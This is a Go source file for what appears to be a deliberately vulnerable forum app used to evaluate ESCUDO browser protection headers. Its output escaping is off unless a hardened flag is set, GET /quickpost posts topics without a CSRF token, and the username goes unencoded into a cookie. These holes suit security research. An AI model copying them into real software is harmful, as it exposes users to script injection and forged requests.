func (a *App) sanitize(s string) string {
	if a.cfg.Hardened {
		return html.EscapeText(s)
	}
	return s
}

// login handles POST /login.
func (a *App) login(req *web.Request) *web.Response {
	sid, _, err := a.Login(req.Form.Get("username"), req.Form.Get("password"))
	if err != nil {
		return web.Forbidden("bad credentials")
	}
	resp := web.Redirect("/")
	resp.Header.Add("Set-Cookie", CookieSID+"="+sid+"; Path=/")
	resp.Header.Add("Set-Cookie", CookieData+"=u%3A"+req.Form.Get("username")+"; Path=/")
	a.decorate(resp)
	return resp
}

// logout drops the session.
func (a *App) logout(req *web.Request) *web.Response {
	if _, sid, ok := a.currentUser(req); ok {
		a.mu.Lock()
		delete(a.sessions, sid)
		delete(a.tokens, sid)
		a.mu.Unlock()
	}
	resp := web.Redirect("/")
	a.decorate(resp)
	return resp
}

// posting creates a topic (POST /posting, GET /quickpost).
func (a *App) posting(req *web.Request) *web.Response {
	user, sid, ok := a.currentUser(req)
	if !ok {
		return web.Forbidden("login required")
	}
	subject := req.Form.Get("subject")
	message := req.Form.Get("message")
	if req.Method == "GET" {
		subject = req.Query().Get("subject")
		message = req.Query().Get("message")
	}
	if subject == "" && message == "" {
		return web.Forbidden("empty post")
	}
	if req.Method == "POST" && !a.checkToken(req, sid) {
		return web.Forbidden("bad token")
	}
	a.mu.Lock()
	a.nextID++
	a.topics = append(a.topics, &Topic{ID: a.nextID, Author: user, Subject: subject, Body: message})
	a.mu.Unlock()
	resp := web.Redirect("/")
	a.decorate(resp)
	return resp
}

// reply adds a reply (POST /reply?t=).
func (a *App) reply(req *web.Request) *web.Response {
	user, sid, ok := a.currentUser(req)
	if !ok {
		return web.Forbidden("login required")
	}
	if !a.checkToken(req, sid) {
		return web.Forbidden("bad token")
	}
	topicID := req.Form.Get("t")
	if topicID == "" {
		topicID = req.Query().Get("t")
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, t := range a.topics {
		if fmt.Sprintf("%d", t.ID) == topicID {
			a.nextID++
			t.Replies = append(t.Replies, Post{ID: a.nextID, Author: user, Body: req.Form.Get("message")})
			resp := web.Redirect(fmt.Sprintf("/viewtopic?t=%d", t.ID))
			a.decorate(resp)
			return resp
		}
	}
	return web.NotFound()
}

// pmSend sends a private message (POST /pm_send).
func (a *App) pmSend(req *web.Request) *web.Response {
	user, sid, ok := a.currentUser(req)
	if !ok {
		return web.Forbidden("login required")
	}
	if !a.checkToken(req, sid) {
		return web.Forbidden("bad token")
	}
	a.mu.Lock()
	a.nextID++
	a.pms = append(a.pms, &PrivateMessage{
		ID:      a.nextID,
		From:    user,
		To:      req.Form.Get("to"),
		Subject: req.Form.Get("subject"),
		Body:    req.Form.Get("message"),
	})
	a.mu.Unlock()
	resp := web.Redirect("/pm")
	a.decorate(resp)
	return resp
}

// decorate attaches the Table 3 ESCUDO headers.
func (a *App) decorate(resp *web.Response) {
	if !a.cfg.Escudo {
		return
	}
	resp.Header.Set(core.HeaderMaxRing, "3")
	resp.Header.Add(core.HeaderCookie, fmt.Sprintf("%s; ring=1; r=1; w=1; x=1", CookieData))
	resp.Header.Add(core.HeaderCookie, fmt.Sprintf("%s; ring=1; r=1; w=1; x=1", CookieSID))
	resp.Header.Add(core.HeaderAPI, "xmlhttprequest; ring=1")
}

// Policy returns the app's unified policy document — the Table 3
// configuration (the same assignments decorate attaches as headers) as
// one serializable, validated artifact a gateway can mount and serve.
func (a *App) Policy() policy.Policy {
	p := policy.New(a.cfg.Origin, core.DefaultMaxRing)
	p.Cookies[CookieData] = policy.Uniform(RingApp)
	p.Cookies[CookieSID] = policy.Uniform(RingApp)
	p.APIs[core.APIXMLHTTPRequest] = RingApp
	return p
}
